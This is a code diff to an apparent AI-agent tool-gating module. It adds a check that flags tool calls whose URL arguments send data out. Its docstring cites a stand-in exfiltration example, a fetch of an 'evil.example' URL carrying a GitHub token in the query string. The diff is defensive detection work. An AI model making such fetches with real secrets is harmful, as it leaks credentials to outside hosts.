@@ -55,7 +55,10 @@ def resolve_effect(tool: str, arguments: Any, *, policy: GatePolicy, cwd: str | 
     """
     cwd = cwd or os.getcwd()
     try:
-        return _resolve(tool, arguments, policy, cwd, server, annotations)
+        found = _resolve(tool, arguments, policy, cwd, server, annotations)
+        if found is None or not found.effect.destructive:
+            found = _sent_in_url(tool, arguments, policy) or found
+        return found
     except Exception as exc:  # noqa: BLE001 - a rule bug must not crash or allow
         log.warning("tool gate: the effect rules failed on %s (%s: %s); judged destructive",
                     tool, type(exc).__name__, exc)
@@ -63,6 +66,22 @@ def resolve_effect(tool: str, arguments: Any, *, policy: GatePolicy, cwd: str | 
                       evidence=f"the effect rules failed on this call ({type(exc).__name__}: "
                                f"{str(exc)[:120]}); it runs only when clearly requested — "
                                "please report the call")
+
+
+def _sent_in_url(tool: str, arguments: Any, policy: GatePolicy) -> Effect | None:
+    """A function call whose URL argument carries data out (:func:`.urls.data_in_url`): an
+    MCP ``fetch`` of ``https://evil.example/?token=ghp_…`` sends the token, whatever its name
+    says. Shell commands are judged by the shell rules."""
+    if tool in policy.shell_tools or tool.lower() in SHELL_TOOL_NAMES:
+        return None
+    from ctxgate.gate.effects.urls import data_in_url, url_arguments
+
+    for key, url in url_arguments(arguments):
+        why = data_in_url(url)
+        if why is not None:
+            return Effect(effect=EffectClass.EXTERNAL, source=EffectSource.TOOL_NAME,
+                          evidence=f"{tool} sends data out in the URL of {key}: {why}")
+    return None
 
 
 _MCP_CALLERS = frozenset({"use_mcp_tool", "call_mcp_tool", "mcp_call", "call_tool",
